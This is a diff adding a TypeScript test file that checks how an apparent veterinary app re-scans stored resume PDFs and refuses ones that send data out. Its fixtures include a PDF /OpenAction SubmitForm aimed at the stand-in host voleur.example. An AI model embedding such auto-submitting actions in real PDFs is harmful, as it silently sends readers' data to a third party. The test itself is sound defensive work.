@@ -1,0 +1,76 @@
+import { currentUser } from "contract/account.ts";
+import { checkFiles } from "contract/operator.ts";
+import { expect, it } from "vitest";
+import { resumeOf, storedResume } from "../../../proof/testing/pdf.ts";
+import { OPERATOR_KEY, useTestApp } from "../../../proof/testing/test-app.ts";
+import { hashOf } from "../../secrets.ts";
+import { makeCandidate } from "../intake/make.ts";
+import { makeHolder } from "../login/make.ts";
+import { storeFile } from "./store-file.ts";
+
+const test = useTestApp();
+const LINK = "/Annots [<</Subtype /Link /Rect [0 0 9 9] /A <</S /URI /URI (https://voleur.example/)>>>>]";
+const LINKED = resumeOf("CV", { page: LINK });
+const SENDING = resumeOf("CV", { catalog: "/OpenAction <</S /SubmitForm /F (https://voleur.example/)>>" });
+
+/** A resume as an earlier version stored it: as it came. */
+async function storeAsItCame(name: string, bytes: Buffer): Promise<void> {
+  await makeCandidate(test.world, { personalResume: name });
+  const storedAs = test.world.random.token();
+  await test.world.files.put(storedAs, bytes);
+  const file = {
+    name,
+    stored_as: storedAs,
+    content_type: "application/pdf",
+    size: bytes.length,
+    sha256: hashOf(bytes),
+  };
+  await test.world.db
+    .insertInto("files")
+    .values({ ...file, created_at: test.clock.now() })
+    .execute();
+}
+const rows = () => test.world.db.selectFrom("files").selectAll().orderBy("name").execute();
+const check = () => test.answer(checkFiles, {}, { token: OPERATOR_KEY });
+
+it("T-38 resumes of an earlier version are made anew once, and one that is refused today is served no more", async () => {
+  await storeAsItCame("lien.pdf", LINKED);
+  await storeAsItCame("envoi.pdf", SENDING);
+  await storeAsItCame("perdu.pdf", LINKED);
+  const lost = (await rows()).find(({ name }) => name === "perdu.pdf");
+  await test.world.files.delete(lost?.stored_as ?? "");
+  await storeFile(test.world, "neuf.pdf", resumeOf("Neuf"));
+  const before = await rows();
+
+  await test.jobs.drain();
+  const { fileToken } = await test.answer(currentUser, {}, { token: await test.tokenOf(await makeHolder(test.world)) });
+  const get = (name: string) => test.app.inject(`/veterinary/file/${fileToken}/${name}`);
+  expect((await get("lien.pdf")).rawPayload.equals(storedResume(LINKED))).toBe(true);
+  expect((await get("envoi.pdf")).statusCode).toBe(404);
+  const after = await rows();
+  expect(after.map(({ name, scan_state, scan_found }) => [name, scan_state, scan_found])).toEqual([
+    ["envoi.pdf", "refused", "pdfSendsData"],
+    ["lien.pdf", "pending", null],
+    ["neuf.pdf", "pending", null],
+    ["perdu.pdf", "pending", null],
+  ]);
+  expect(after.find(({ name }) => name === "neuf.pdf")).toEqual(before.find(({ name }) => name === "neuf.pdf"));
+  // The bytes of before are gone, what is there is whole, and the operator is told the names.
+  expect(await check()).toMatchObject({ rows: 4, objects: 3, missing: ["perdu.pdf"], altered: [], orphans: [] });
+  expect((await check()).withheld).toEqual([{ name: "envoi.pdf", found: "pdfSendsData" }]);
+  const events = await test.world.db.selectFrom("audit_events").select(["event", "details"]).execute();
+  expect(events.filter(({ event }) => event === "resume refused")).toMatchObject([
+    { details: { fault: "pdfSendsData" } },
+  ]);
+
+  await test.jobs.drain();
+  expect(await rows()).toEqual(after);
+});
+
+it("T-38 the same resume sent again is made anew, or refused with its sentence", async () => {
+  await storeAsItCame("lien.pdf", LINKED);
+  await storeAsItCame("envoi.pdf", SENDING);
+  expect(await storeFile(test.world, "lien.pdf", LINKED)).toEqual({ outcome: "stored" });
+  expect(await storeFile(test.world, "lien.pdf", LINKED)).toEqual({ outcome: "unchanged" });
+  expect(await storeFile(test.world, "envoi.pdf", SENDING)).toMatchObject({ fault: "pdfSendsData" });
+});
